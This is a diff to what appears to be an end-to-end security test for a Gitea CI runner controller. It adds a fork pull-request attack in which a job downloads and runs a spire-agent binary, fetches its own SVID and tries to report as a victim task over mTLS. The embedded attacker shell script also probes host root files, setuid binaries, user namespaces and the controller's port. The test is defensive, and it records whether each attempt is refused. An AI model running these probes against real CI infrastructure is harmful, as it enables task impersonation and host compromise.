@@ -10,7 +10,9 @@
 //!
 //! The attacker knows what an attacker could: the host paths of the controller's files
 //! (defaults are public), the victims' assignment ids, and — as if read from a Pod spec
-//! or `docker inspect` — a valid capability and session of each victim.
+//! or `docker inspect` — a valid capability and session of each victim. It is what a
+//! fork's pull request can be: a `pull_request` run of another ref of the running
+//! victim's repository, whose job has the victim's job key.
 
 use std::{collections::BTreeMap, time::Duration};
 
@@ -38,7 +40,7 @@ use testkit::{
 const KEY: &[u8] = b"e2e-capability-key-0123456789abcdef0123456789";
 
 /// Every attempt, in the order of docs/security.md's table.
-const ATTEMPTS: [&str; 12] = [
+const ATTEMPTS: [&str; 13] = [
     "own-capability",
     "other-task-claim",
     "other-task-report",
@@ -48,6 +50,7 @@ const ATTEMPTS: [&str; 12] = [
     "store",
     "other-environments",
     "other-svid",
+    "same-key-svid",
     "host",
     "user-namespace",
     "controller-http",
@@ -78,6 +81,9 @@ struct Loot {
     /// The SPIRE agent's socket in the environment, and the running victim's SPIFFE ID.
     spiffe_socket: String,
     victim_spiffe_id: String,
+    /// Where the step downloads `spire-agent`, its tool to fetch its own SVID as files
+    /// (empty without SPIRE).
+    tool_url: String,
     http_port: u16,
     job_dockerd: bool,
     /// A root-only file on the host and what it holds.
@@ -92,7 +98,8 @@ facade=/run/gitea-dynamic-runner/facade.sock
 grpc() { # PROCEDURE BASE64-FRAME → "http-code grpc-status"
   echo "$2" | base64 -d > /tmp/request.bin
   scheme=http
-  if [ "$FACADE_TLS" = true ]; then where=$FACADE_TCP; scheme=https; set -- "$1" "$2" --insecure
+  if [ "$FACADE_TLS" = true ] && [ -n "${CLIENT_CERT:-}" ]; then where=$FACADE_TCP; scheme=https; set -- "$1" "$2" --insecure --cert "$CLIENT_CERT" --key "$CLIENT_KEY"
+  elif [ "$FACADE_TLS" = true ]; then where=$FACADE_TCP; scheme=https; set -- "$1" "$2" --insecure
   elif [ -n "$FACADE_TCP" ]; then where=$FACADE_TCP; set -- "$1" "$2"
   else where=facade; set -- "$1" "$2" --unix-socket "$facade"; fi
   curl -s -o /dev/null -m 10 --http2-prior-knowledge "${@:3}" -H 'content-type: application/grpc' -H 'te: trailers' \
@@ -220,13 +227,33 @@ if [ -n "$SPIFFE_SOCKET" ]; then
   case "$offered" in
     *"\"$VICTIM_SPIFFE_ID\""*) verdict other-svid reach "the agent $offered" ;;
     "") verdict other-svid refused "the agent offered no SVID to this step" ;;
-    *) verdict other-svid refused "the agent $offered: its own job's only" ;;
+    *) verdict other-svid refused "the agent $offered: its own task's only" ;;
   esac
 else
   verdict other-svid refused "no SPIRE agent socket in the environment: $(ls /run/spire 2>&1 | head -c 100)"
 fi
 
-# 10. The host itself: a file only the host's root reads.
+# 10. Its own SVID, presented for another task of the same job key: this job is a pull
+#     request of another ref whose job has the running victim's key, and it reports with
+#     the victim's session (as if leaked), over mTLS with its own SVID as client certificate.
+if [ -n "$SPIFFE_SOCKET" ] && [ "$FACADE_TLS" = true ]; then
+  mkdir -p /tmp/svid
+  if curl -sf -m 120 -o /tmp/spire-agent "$TOOL_URL" && chmod +x /tmp/spire-agent \
+    && /tmp/spire-agent api fetch x509 -socketPath "$SPIFFE_SOCKET" -write /tmp/svid >/tmp/fetch.out 2>&1; then
+    own=$(grep -o 'spiffe://[^ ]*' /tmp/fetch.out | head -n1)
+    answer=$(CLIENT_CERT=/tmp/svid/svid.0.pem CLIENT_KEY=/tmp/svid/svid.0.key grpc UpdateLog "$REPORT_RUNNING")
+    case "$answer" in
+      "200 " | "200 0") verdict same-key-svid reach "its own SVID $own reported for the victim $VICTIM_SPIFFE_ID: $answer" ;;
+      *) verdict same-key-svid refused "its own SVID $own, presented for the victim $VICTIM_SPIFFE_ID: http and grpc-status $answer" ;;
+    esac
+  else
+    verdict same-key-svid unshown "could not fetch its own SVID from $TOOL_URL and the agent: $(tr '\n' ' ' </tmp/fetch.out 2>/dev/null | head -c 200)"
+  fi
+else
+  verdict same-key-svid refused "no SPIRE agent socket and no mTLS facade in the environment"
+fi
+
+# 11. The host itself: a file only the host's root reads.
 marker=$(host_read "$HOST_MARKER")
 if printf '%s' "$marker" | grep -q "^$HOST_MARKER_VALUE"; then
   verdict host reach "as the host's root: read $HOST_MARKER (mode 0600)"
@@ -236,23 +263,24 @@ else
   verdict host refused "uid $(id -u), $(grep NoNewPrivs /proc/self/status | tr -s '\t' ' '), setuid files: $(find / -xdev -type f -perm /6000 2>/dev/null | wc -l); $(no_root)"
 fi
 
-# 11. A user namespace of its own: the kernel surface rootless Docker needs.
+# 12. A user namespace of its own: the kernel surface rootless Docker needs.
 if unshare --user --map-root-user true 2>/tmp/userns.err; then verdict user-namespace reach "unshare --user --map-root-user worked"
 else verdict user-namespace refused "$(head -c 150 /tmp/userns.err)"; fi
 
-# 12. The controller's HTTP port.
+# 13. The controller's HTTP port.
 if curl -s -m 3 "http://$GATEWAY:$HTTP_PORT/metrics" | grep -q gdr_; then verdict controller-http reach "$GATEWAY:$HTTP_PORT"; else verdict controller-http refused "nothing answers at $GATEWAY:$HTTP_PORT"; fi
 true
 "#;
 
-/// The attacker's workflow: the script goes in base64 (Gitea re-serialises each job's
-/// YAML, and a long script does not always survive that as a block scalar).
+/// The attacker's workflow, a pull request's with the running victim's job key: the
+/// script goes in base64 (Gitea re-serialises each job's YAML, and a long script does
+/// not always survive that as a block scalar).
 fn attacker(loot: &Loot, runs_on: &str) -> String {
     format!(
         r#"name: attacker
-on: push
+on: pull_request
 jobs:
-  attack:
+  running:
     runs-on: {runs_on}
     steps:
       - env:
@@ -269,6 +297,7 @@ jobs:
           FACADE_TLS: "{facade_tls}"
           SPIFFE_SOCKET: "{spiffe_socket}"
           VICTIM_SPIFFE_ID: "{victim_spiffe_id}"
+          TOOL_URL: "{tool_url}"
           HTTP_PORT: "{http_port}"
           HOST_MARKER: "{marker}"
           HOST_MARKER_VALUE: "{marker_value}"
@@ -287,6 +316,7 @@ jobs:
         facade_tls = loot.facade_tls,
         spiffe_socket = loot.spiffe_socket,
         victim_spiffe_id = loot.victim_spiffe_id,
+        tool_url = loot.tool_url,
         http_port = loot.http_port,
         marker = loot.marker.display(),
         marker_value = loot.marker_value,
@@ -297,8 +327,11 @@ fn ended_workflow(runs_on: &str) -> String {
     format!("name: ended\non: push\njobs:\n  ended:\n    runs-on: {runs_on}\n    steps:\n      - run: echo done\n")
 }
 
+/// The victim: pushes to main only (the attacker's branch holds this file too).
 fn running_workflow(runs_on: &str) -> String {
-    format!("name: running\non: push\njobs:\n  running:\n    runs-on: {runs_on}\n    steps:\n      - run: echo victim running\n      - run: sleep 180\n")
+    format!(
+        "name: running\non:\n  push:\n    branches: [main]\njobs:\n  running:\n    runs-on: {runs_on}\n    steps:\n      - run: echo victim running\n      - run: sleep 180\n"
+    )
 }
 
 fn done(tasks: &[TaskInfo]) -> bool {
@@ -414,7 +447,7 @@ async fn attack(placement: Placement, job_docker: JobDocker, spire: bool) -> BTr
     assert!(matches!(record.state, State::Claimed { .. }), "{record:?}");
     // The victim's session exactly as the facade handed it out (over TCP bound to the
     // address the victim claimed from).
-    let victim_spiffe_id = format!("spiffe://{}/ci/{}/{}/running", NodeSpire::TRUST_DOMAIN, running_repo.owner, running_repo.name);
+    let victim_spiffe_id = format!("spiffe://{}/ci/{}/{}/running/{running}", NodeSpire::TRUST_DOMAIN, running_repo.owner, running_repo.name);
     let victim = if identities.is_some() {
         Peer::Spiffe(victim_spiffe_id.clone())
     } else {
@@ -424,6 +457,7 @@ async fn attack(placement: Placement, job_docker: JobDocker, spire: bool) -> BTr
         }
     };
 
+    let tool = if identities.is_some() { Some(ToolServer::start(gateway.into(), testkit::peer("spire-agent")).await) } else { None };
     let credential = |id: &str, capability: String| Some(AssignmentCredential { assignment_id: id.to_owned(), capability });
     let report = |id: &str, task: i64, capability: String| {
         frame(&UpdateLogRequest {
@@ -456,16 +490,21 @@ async fn attack(placement: Placement, job_docker: JobDocker, spire: bool) -> BTr
         facade_tls: identities.is_some(),
         spiffe_socket,
         victim_spiffe_id,
+        tool_url: tool.as_ref().map_or_else(String::new, |tool| tool.url.clone()),
         http_port,
         job_dockerd: job_docker != JobDocker::Off,
         marker,
         marker_value,
     };
-    let attacker_repo = gitea.create_repo("attacker").await;
-    gitea.commit_workflow(&attacker_repo, "attacker.yml", &attacker(&loot, placement.runs_on())).await;
-    let tasks = gitea.wait_for_tasks(&attacker_repo, Duration::from_secs(300), done).await;
-    let log = strip_log_timestamps(&gitea.job_log(&attacker_repo, tasks[0].run_number, 0).await);
-    assert_eq!(tasks[0].status, "success", "{log}");
+    // The attacker: a pull request of another ref of the victim's repository.
+    gitea.create_branch(&running_repo, "fork").await;
+    gitea.commit_file(&running_repo, "fork", ".gitea/workflows/attacker.yml", attacker(&loot, placement.runs_on()).as_bytes()).await;
+    gitea.open_pull_request(&running_repo, "fork").await;
+    let pull_request = |tasks: &[TaskInfo]| tasks.iter().find(|t| t.event == "pull_request").cloned();
+    let tasks = gitea.wait_for_tasks(&running_repo, Duration::from_secs(300), |t| pull_request(t).is_some_and(|t| !t.is_open())).await;
+    let attacker_task = pull_request(&tasks).unwrap();
+    let log = strip_log_timestamps(&gitea.job_log(&running_repo, attacker_task.run_number, 0).await);
+    assert_eq!(attacker_task.status, "success", "{log}");
     let verdicts: BTreeMap<String, (String, String)> = log
         .lines()
         .filter_map(|l| l.trim().strip_prefix("ATTACK "))
@@ -490,8 +529,50 @@ async fn attack(placement: Placement, job_docker: JobDocker, spire: bool) -> BTr
         tokio::task::block_in_place(|| cluster().kubectl_ok(&["delete", "namespace", &namespace, "--wait=false"]));
     }
     controller.stop().await;
-    drop((sandboxes, identities));
+    drop((sandboxes, identities, tool));
     verdicts
+}
+
+/// One file served over HTTP to the Pods, as an attacker's download server would: the
+/// step's tool to fetch its own SVID (`spire-agent`, not in the runner image). Hand-written
+/// because it is one file with one answer, for the length of one test.
+struct ToolServer {
+    url: String,
+    task: tokio::task::JoinHandle<()>,
+}
+
+impl ToolServer {
+    async fn start(address: std::net::IpAddr, file: std::path::PathBuf) -> ToolServer {
+        use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+        let listener = tokio::net::TcpListener::bind((address, 0)).await.unwrap();
+        let url = format!("http://{}/{}", listener.local_addr().unwrap(), file.file_name().unwrap().to_string_lossy());
+        let body = std::sync::Arc::new(tokio::fs::read(&file).await.unwrap());
+        let task = tokio::spawn(async move {
+            while let Ok((mut stream, _)) = listener.accept().await {
+                let body = std::sync::Arc::clone(&body);
+                tokio::spawn(async move {
+                    let mut request = Vec::new();
+                    let mut buf = [0u8; 1024];
+                    while !request.windows(4).any(|w| w == b"\r\n\r\n") {
+                        match stream.read(&mut buf).await {
+                            Ok(0) | Err(_) => return,
+                            Ok(n) => request.extend_from_slice(&buf[..n]),
+                        }
+                    }
+                    let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
+                    let _ = stream.write_all(head.as_bytes()).await;
+                    let _ = stream.write_all(&body).await;
+                });
+            }
+        });
+        ToolServer { url, task }
+    }
+}
+
+impl Drop for ToolServer {
+    fn drop(&mut self) {
+        self.task.abort();
+    }
 }
 
 /// SPIRE for the node, and the entry of the controller (this test process on the host).
